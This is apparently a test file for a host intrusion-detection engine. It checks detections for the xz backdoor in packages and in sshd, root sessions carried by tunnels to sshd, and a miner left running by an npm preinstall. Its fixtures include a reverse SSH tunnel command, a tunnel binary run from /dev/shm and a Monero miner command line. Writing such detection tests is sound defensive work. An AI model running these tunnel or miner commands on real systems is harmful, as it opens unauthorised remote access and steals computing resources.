// What the twelfth blind corpus's intrusions showed the engine missing, each with its look-alike: the xz backdoor by
// its package and by the library in sshd, a root session carried by a tunnel to sshd, a miner an npm preinstall left
// running, and questions naming Auto-color, telnet brute-forcing or a compression library.
import { test } from "tap";
import { getDetection, routeQuery } from "../../shared/engine/index.js";
import type { DetectionHit, HostData } from "../../shared/engine/index.js";
import { host, proc, sock } from "./helpers.js";

const findings = (id: string, h: HostData): DetectionHit[] => (getDetection(id)?.evaluate(h, { entities: { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {} } }) ?? []).filter((x) => x.kept_by === undefined);

test("the xz backdoor: its releases by package, the revert and Fedora's rebuild are not", async (t) => {
  const deb = (version: string) => findings("malicious-package-release", host({ deb_packages: [{ name: "liblzma5", version }, { name: "xz-utils", version }] }));
  t.equal(deb("5.6.1-1").length, 2);
  t.equal(deb("5.6.1-1")[0]?.severity, "critical");
  t.equal(deb("5.6.0-0.2").length, 2);
  t.same(deb("5.6.1+really5.4.5-1"), [], "Debian's revert");
  t.same(deb("5.4.1-0.2"), []);
  t.equal(findings("malicious-package-release", host({ rpm_packages: [{ name: "xz-libs", version: "5.6.0", release: "1.fc40" }] })).length, 1);
  t.same(findings("malicious-package-release", host({ rpm_packages: [{ name: "xz-libs", version: "5.4.6", release: "3.fc40" }] })), []);
});

test("the xz backdoor: liblzma 5.6.0 or 5.6.1 mapped into sshd", async (t) => {
  const sshd = (lib: string) => findings("sshd-library-backdoor", host({
    processes: [proc(700, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")],
    process_memory_map: [{ pid: "700", path: lib, start: "0x7f0000000000", end: "0x7f0000020000" }],
  }));
  const bad = sshd("/usr/lib/x86_64-linux-gnu/liblzma.so.5.6.1");
  t.equal(bad.length, 1);
  t.ok(bad[0]?.known_bad);
  t.same(sshd("/usr/lib/x86_64-linux-gnu/liblzma.so.5.4.1"), []);
});

test("a root session from loopback carried by a tunnel to sshd; a person's own ssh root@localhost is not one", async (t) => {
  const login = { user: "root", host: "127.0.0.1", tty: "pts/1", type: "user", time: "1731900000", pid: "4242" };
  const tunnel = host({
    logged_in_users: [login],
    processes: [proc(900, "asterisk-mon", "/usr/lib/asterisk/asterisk-mon", "/usr/lib/asterisk/asterisk-mon tunnel --no-autoupdate run --token eyJh", { uid: "1001" })],
    process_open_sockets: [sock(900, "127.0.0.1", 22, { local_address: "127.0.0.1", local_port: "49318" })],
  });
  const hits = findings("remote-root-login", tunnel);
  t.equal(hits.length, 1);
  t.match(hits[0]?.summary ?? "", /asterisk-mon .*not a plain ssh client/);
  const client = (path: string, cmdline: string) => host({ logged_in_users: [login], processes: [proc(901, "ssh", path, cmdline, { uid: "1000" })], process_open_sockets: [sock(901, "127.0.0.1", 22, { local_address: "127.0.0.1" })] });
  t.same(findings("remote-root-login", client("/usr/bin/ssh", "ssh root@localhost")), []);
  t.equal(findings("remote-root-login", client("/usr/bin/ssh", "ssh -N -R 2222:127.0.0.1:22 tun@203.0.113.7")).length, 1, "the classic reverse tunnel");
  t.equal(findings("remote-root-login", client("/dev/shm/ssh", "ssh client 203.0.113.7:443 R:2222:127.0.0.1:22")).length, 1, "a tunnel named ssh elsewhere");
  t.same(findings("remote-root-login", host({ logged_in_users: [login] })), [], "a loopback login with no tunnel in sight");
  const past = host({ last: [{ username: "root", host: "127.0.0.1", tty: "pts/1", type: "7", time: "1731900000" }], processes: [proc(902, "blackbox_exporter", "/usr/bin/blackbox_exporter", "blackbox_exporter")], process_open_sockets: [sock(902, "127.0.0.1", 22, { local_address: "127.0.0.1" })] });
  t.same(findings("remote-root-login", past), [], "a past loopback login and a probe of sshd today");
  const port2222 = host({
    logged_in_users: [login],
    processes: [proc(20, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D"), proc(903, "frpc", "/opt/x/frpc", "frpc -c frpc.ini")],
    listening_ports: [{ pid: "20", port: "2222", address: "0.0.0.0", protocol: "6" }],
    process_open_sockets: [sock(903, "127.0.0.1", 2222, { local_address: "127.0.0.1" })],
  });
  t.equal(findings("remote-root-login", port2222).length, 1, "sshd on another port, read from its listener");
});

test("a program an npm preinstall started that outlives its install", async (t) => {
  const app = "/srv/app/node_modules/ua-parser-js";
  const miner = proc(1200, "jsextension", `${app}/jsextension`, "./jsextension -k --tls -o pool.minexmr.com:443 --background", { uid: "1001", parent: "1", cwd: app });
  const env = (pid: string) => [{ pid, key: "npm_lifecycle_event", value: "preinstall" }, { pid, key: "npm_package_name", value: "ua-parser-js" }];
  const hits = findings("install-script-payload", host({ processes: [miner], process_envs: env("1200") }));
  t.equal(hits.length, 1);
  t.match(hits[0]?.summary ?? "", /outlive the install/);
  const npm = proc(1300, "npm ci", "/usr/bin/node", "npm ci", { uid: "1001" });
  const esbuild = proc(1301, "esbuild", "/srv/app/node_modules/@esbuild/linux-x64/bin/esbuild", "esbuild --version", { uid: "1001", parent: "1300", cwd: "/srv/app/node_modules/esbuild" });
  t.same(findings("install-script-payload", host({ processes: [npm, esbuild], process_envs: env("1301") })), [], "an install step while its install runs");
});

test("routing: Auto-color, telnet brute-forcing, a compression library in sshd", async (t) => {
  t.ok(routeQuery("Check the university portal servers for the Auto-color backdoor.", "standard").detection_ids.includes("ld-so-preload"));
  t.ok(routeQuery("Some gateways are making lots of outbound telnet connections - why?", "standard").detection_ids.includes("outbound-scan"));
  const xz = routeQuery("Is sshd on any packaging host loading a compromised compression library?", "standard").detection_ids;
  t.ok(xz.includes("sshd-library-backdoor") && xz.includes("malicious-package-release"));
});
